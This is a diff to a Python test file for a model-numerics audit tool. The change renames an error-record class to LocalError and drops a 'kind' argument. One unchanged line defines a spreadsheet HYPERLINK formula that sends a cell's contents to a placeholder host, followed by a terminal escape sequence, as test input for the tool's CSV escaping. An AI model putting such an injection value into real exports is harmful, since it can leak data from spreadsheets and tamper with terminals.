@@ -24,7 +24,7 @@ from precaudit.reports import exports
 from precaudit.reports.escaping import csv_cell as cell
 from precaudit.schema.frames import errors_frame
 from precaudit.schema.prompts import Prompt
-from precaudit.schema.records.errors import ErrorRecord
+from precaudit.schema.records.errors import LocalError
 
 FORMULA = '=HYPERLINK("http://h/"&A1)\x1b[2J'
 
@@ -135,8 +135,8 @@ def test_tables_in_parts_are_the_table(which, request, tmp_path, monkeypatch):
 
 
 def test_negative_and_missing_numbers_stay_numbers():
-    e = ErrorRecord(
-        prompt="-1", phase="prefill", step=0, layer=3, point="q", kind="local", candidate="c", reference="r",
+    e = LocalError(
+        prompt="-1", phase="prefill", step=0, layer=3, point="q", candidate="c", reference="r",
         gain=-0.5, rel_l2="nan", max_diff="inf",
     )  # fmt: skip
     row = next(format_of.DictReader(io.StringIO(exports.frame_csv(errors_frame([e])).decode())))
@@ -179,8 +179,8 @@ def test_tensorboard_holds_every_layer_and_the_verdict(which, request, tmp_path)
 
 def test_nan_is_the_largest():
     def e(x, **more):
-        return ErrorRecord(
-            prompt="p", phase="prefill", step=0, layer=None, point="q", kind="local", candidate="c", reference="r",
+        return LocalError(
+            prompt="p", phase="prefill", step=0, layer=None, point="q", candidate="c", reference="r",
             rel_l2=x, **more,
         )  # fmt: skip
 
